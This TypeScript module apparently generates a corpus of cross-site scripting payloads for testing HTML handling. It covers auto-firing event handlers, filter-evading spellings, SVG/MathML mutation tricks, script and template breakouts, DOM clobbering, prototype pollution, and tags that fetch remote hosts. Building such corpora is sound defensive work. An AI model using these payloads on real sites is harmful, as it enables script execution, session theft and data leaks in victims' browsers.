/** Which HTML runs, fetches or misleads? */

import { base64, call, host, image, numeric, type Try } from './payload-tries';

/** Elements that run a handler by themselves, or as soon as a person comes near: element, what it needs, event. */
export const HANDLERS = [
  ['img', 'src=x', 'onerror'],
  ['img', 'src=/icon.svg', 'onload'],
  ['image', 'src=x', 'onerror'],
  ['svg', '', 'onload'],
  ['body', '', 'onpageshow'],
  ['video', 'src=x', 'onerror'],
  ['audio', 'src=x', 'onerror'],
  ['video', '', 'onloadstart'],
  ['input', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocusin'],
  ['select', 'autofocus', 'onfocus'],
  ['button', 'autofocus', 'onfocus'],
  ['a', 'href=# autofocus', 'onfocus'],
  ['p', 'tabindex=0 autofocus', 'onfocus'],
  ['div', 'contenteditable autofocus', 'onfocus'],
  ['details', 'open', 'ontoggle'],
  ['div', 'popover id=pop', 'onbeforetoggle'],
  ['dialog', 'open', 'onclose'],
  ['marquee', 'width=1', 'onstart'],
  ['iframe', 'src=/', 'onload'],
  ['object', 'data=x', 'onerror'],
  ['embed', 'src=/icon.svg', 'onload'],
  ['style', '', 'onload'],
  ['link', 'rel=stylesheet href=x', 'onerror'],
  ['script', 'src=x', 'onerror'],
  ['track', 'src=x default', 'onerror'],
  ['div', 'style=position:fixed;inset:0', 'onpointerover'],
  ['xss-card', 'style=display:block;animation:spin', 'onanimationstart'],
  ['b', 'style=transition:all', 'ontransitionrun'],
  ['form', 'action=x', 'onsubmit'],
  ['math', 'tabindex=0 autofocus', 'onfocus'],
  ['frameset', '', 'onload'],
] as const;

/** One element, written as browsers read it and filters may not. */
export const SPELLINGS: ((tag: string, needs: string, event: string, script: string) => string)[] = [
  (tag, needs, event, script) => `<${tag} ${needs} ${event}=${script}>`,
  (tag, needs, event, script) => `<${mixed(tag)} ${needs} ${mixed(event)}="${script}">a</${tag}>`,
  (tag, needs, event, script) => `<${tag}/${needs.replaceAll(' ', '/')}/${event}='${script}'/>`,
  (tag, needs, event, script) => `<${tag}\n${needs}\t${event}\n=\n${script}\n>`,
  (tag, needs, event, script) => `</p><<${tag} ${needs} ${event}=${script} //`,
  (tag, needs, event, script) => `<${tag} ${needs} x="&gt;" ${event}="${numeric(script)}">`,
  (tag, needs, event, script) => `<${tag} ${needs} ${event}=\`${script}\` ${event}=${script}>`,
];

const mixed = (word: string) =>
  [...word].map((letter, at) => (at % 2 ? letter.toUpperCase() : letter)).join('');

/** Where a browser changes its rules of reading, and elements whose content it reads as words or as markup by turns. */
export const NAMESPACES = ['', '<svg>', '<math>', '<math><mtext>', '<svg><desc>', '<svg><foreignObject>'];
export const HOLDERS = [
  'style',
  'title',
  'noscript',
  'xmp',
  'textarea',
  'template',
  'noembed',
  'iframe',
  'script',
];

export const FOREIGN: Try[] = [
  (n) => `<svg><script>${call(n)}</script></svg>`,
  (n) => `<svg><script href="data:text/javascript,${call(n)}" /></svg>`,
  (n) => `<svg><script>${numeric(call(n))}</script></svg>`,
  (n) => `<svg><animate onbegin=${call(n)} attributeName=x dur=1s></svg>`,
  (n) => `<svg><set attributeName=onload to=${call(n)} onend=${call(n)} dur=1s></svg>`,
  (n) => `<svg><a xlink:href="javascript:${call(n)}"><text y=20>a</text></a></svg>`,
  (n) => `<svg><a><animate attributeName=href values="javascript:${call(n)}" /><text y=20>a</text></a></svg>`,
  (n) => `<svg><use href="data:image/svg+xml,<svg id=a onload=${call(n)}></svg>#a"></svg>`,
  (n) => `<svg><foreignObject><body onpageshow=${call(n)}></foreignObject></svg>`,
  (n) => `<svg:svg xmlns:svg="http://www.w3.org/2000/svg" onload="${call(n)}"/>`,
  (n) => `<math href="javascript:${call(n)}">a</math>`,
  (n) => `<math><maction actiontype=statusline xlink:href="javascript:${call(n)}">a</maction></math>`,
  (n) => `<math><annotation-xml encoding="text/html">${image(n)}</annotation-xml></math>`,
  (n) => `<math><mtext><table><mglyph><style><!--</style><b title="--&gt;${image(n)}">`,
  (n) => `<form><math><mtext></form><form><mglyph><style></math>${image(n)}`,
  (n) => `<table><svg><style></table>${image(n)}`,
  (n) => `<select><template shadowrootmode=open>${image(n)}</template></select>`,
  (n) =>
    `<object type="image/svg+xml" data="data:image/svg+xml;base64,${base64(`<svg onload=${call(n)}>`)}">`,
];

/** What a text may stand in, ended early. */
export const ENDINGS = [
  ...[
    '"',
    "'",
    '`',
    '">',
    "'>",
    '"/>',
    '-->',
    '--!>',
    ']]>',
    '*/',
    '}',
    '%22%3E',
    '&quot;&gt;',
    '\\"',
    '\\u0022',
  ],
  ...[
    '\u2028',
    '\u2029',
    '</title>',
    '</textarea>',
    '</style>',
    '</script>',
    '</noscript>',
    '</template>',
    '\n---\n',
  ],
];
export const AFTER_ENDINGS: Try[] = [
  image,
  (n) => ` autofocus onfocus=${call(n)} x=`,
  (n) => `<script>${call(n)}</script>`,
];

export const SCRIPTS: Try[] = [
  (n) => `'+${call(n)}+'`,
  (n) => `";${call(n)};"`,
  (n) => `\\';${call(n)}//`,
  (n) => `\${${call(n)}}`,
  (n) => `{{constructor.constructor('${call(n)}')()}}`,
  (n) => `#{${call(n)}} <%= ${call(n)} %> {% ${call(n)} %}`,
  (n) => `\\u003cscript\\u003e${call(n)}\\u003c/script\\u003e`,
  (n) => `\\x3cscript\\x3e${call(n)}\\x3c/script\\x3e`,
  (n) => `<script>${call(n)}</script>`,
  (n) => `<script type=module>import "//${host(n)}";${call(n)}</script>`,
  (n) => `<script>${call(n)}<!--<script></script>-->`,
  (n) => `<!--<script>--></script><script>${call(n)}</script>`,
  (n) => `"])</script><script>self.__next_f.push([1,"a"]);${call(n)}</script>`,
  (n) => `1:["$","img",null,{"src":"x","onError":"${call(n)}"}]`,
  (n) => `$L1 $@2 $F3 ["$","script",null,{"dangerouslySetInnerHTML":{"__html":"${call(n)}"}}]`,
  (n) => `<scr<script>ipt>${call(n)}</scr</script>ipt>`,
  (n) => `<script\u0020/nonce=a>${call(n)}</script foo>`,
];

export const COMMENTS: Try[] = [
  (n) => `<!-->${image(n)}-->`,
  (n) => `<!--->${image(n)}-->`,
  (n) => `<!-- a --!>${image(n)}`,
  (n) => `<!-- never closed ${image(n)}`,
  (n) => `<![CDATA[>${image(n)}]]>`,
  (n) => `<svg><![CDATA[</svg>${image(n)}]]>`,
  (n) => `<?xml version="1.0"?>${image(n)}`,
  (n) => `<? > ${image(n)} ?>`,
  (n) => `</ ${image(n)}`,
  (n) => `<!DOCTYPE a [<!ENTITY b "${image(n)}">]>&b;`,
  (n) => `<!--[if true]>${image(n)}<![endif]-->`,
  (n) => `<plaintext>${image(n)}`,
];

/** What asks another server as soon as it is there. */
export const FETCHES: ((to: string) => string)[] = [
  (to) => `<img src=//${to}>`,
  (to) => `<img srcset="//${to} 1x, //${to}?2 2x">`,
  (to) => `<picture><source srcset=//${to}><img></picture>`,
  (to) => `<video poster=//${to} src=//${to}?video autoplay></video>`,
  (to) => `<audio src=//${to} autoplay></audio>`,
  (to) => `<video><track default src=//${to}></video>`,
  (to) => `<link rel=stylesheet href=//${to}>`,
  (to) => `<link rel=preload as=image href=//${to}>`,
  (to) => `<link rel="prefetch dns-prefetch preconnect" href=//${to}>`,
  (to) => `<link rel=modulepreload href=//${to}>`,
  (to) => `<link rel="icon manifest" href=//${to}>`,
  (to) => `<base href=//${to}/><img src=relative>`,
  (to) => `<meta http-equiv=refresh content="0;url=//${to}">`,
  (to) => `<meta http-equiv=set-cookie content="a=${to}">`,
  (to) => `<form action=//${to}><input autofocus><button formaction=//${to}>a</button></form>`,
  (to) => `<input type=image src=//${to}>`,
  (to) => `<isindex action=//${to} type=image src=//${to}>`,
  (to) => `<iframe src=//${to}></iframe>`,
  (to) => `<iframe srcdoc="<img src=//${to}>"></iframe>`,
  (to) => `<frameset><frame src=//${to}></frameset>`,
  (to) => `<object data=//${to}></object>`,
  (to) => `<embed src=//${to}>`,
  (to) => `<applet codebase=//${to} code=a></applet>`,
  (to) => `<portal src=//${to}></portal>`,
  (to) => `<body background=//${to}>`,
  (to) => `<table background=//${to}><td background=//${to}>a</table>`,
  (to) => `<div style="background:url(//${to})">a</div>`,
  (to) => `<div style="width:expression(fetch('//${to}'));-moz-binding:url(//${to})">a</div>`,
  (to) => `<p style='background:image-set("//${to}" 1x);list-style:url(//${to})'>a</p>`,
  (to) => `<style>@import "//${to}";</style>`,
  (to) => `<style>@font-face{font-family:a;src:url(//${to})}*{font-family:a}</style>`,
  (to) => `<style>:root{background:url(//${to})}input[value^=a]{background:url(//${to})}</style>`,
  (to) => `<svg><image href=//${to} /></svg>`,
  (to) => `<svg><use xlink:href=//${to}#a /></svg>`,
  (to) =>
    `<svg><filter id=f><feImage href=//${to} /></filter><rect filter=url(#f) fill=url(//${to}) /></svg>`,
  (to) => `<svg><style>@import url(//${to});</style></svg>`,
  (to) => `<a href=# ping=//${to} autofocus>a</a>`,
  (to) => `<script src=//${to}></script>`,
  (to) => `<script type=importmap>{"imports":{"a":"//${to}"}}</script>`,
  (to) => `<script type=speculationrules>{"prefetch":[{"urls":["//${to}"]}]}</script>`,
  (to) => `<?xml-stylesheet href="//${to}"?>`,
  (to) => `<!--#include virtual="//${to}"--><esi:include src="//${to}"/>`,
  (to) => `![a](https://${to}.png)`,
  (to) => `![a](//${to} "t")`,
  (to) => `![a][img-${to}]\n\n[img-${to}]: https://${to}`,
];

/** What takes the place of names that scripts of the page rely on. */
export const CLOBBERS: Try[] = [
  (n) => `<form id=clobbered-${n}><input name=attributes><input name=parentNode></form>`,
  (n) => `<a id=clobbered-${n} href="x:${call(n)}"></a><a id=clobbered-${n} name=src></a>`,
  (n) => `<img name=getElementById id=clobbered-${n}>`,
  (n) => `<form name=body id=clobbered-${n}><img name=createElement></form>`,
  (n) => `<iframe name=__next_f id=clobbered-${n}></iframe>`,
  (n) => `<object id=clobbered-${n} name=cookie></object>`,
  (n) => `<output id=clobbered-${n} name=__proto__>`,
  (n) => `<input form=a name=nodeName id=clobbered-${n}>`,
  (n) => `{"__proto__":{"polluted":${n}},"constructor":{"prototype":{"polluted":${n}}}}`,
  (n) => `__proto__[polluted]=${n}&constructor.prototype.polluted=${n}`,
];

/** Tries that fit into a tag. */
export const SHORT: Try[] = [
  image,
  (n) => `<svg/onload=${call(n)}>`,
  (n) => `<body onpageshow=${call(n)}>`,
  (n) => `"autofocus onfocus=${call(n)} x="`,
  (n) => `'onpointerover='${call(n)}`,
  (n) => `<script>${call(n)}</script>`,
  (n) => `</script><svg onload=${call(n)}>`,
  (n) => `javascript:${call(n)}`,
  (n) => `'-${call(n)}-'`,
  (n) => `{{${call(n)}}}`,
  (n) => `\uff1csvg onload=${call(n)}\uff1e`,
  (n) => `<img src=//${host(n)}>`,
  (n) => `<base href=//${host(n)}>`,
  (n) => `<a id=clobbered-${n}>`,
  (n) => `&lt;svg onload=${call(n)}&gt;`,
  (n) => `%3csvg onload=${call(n)}%3e`,
];
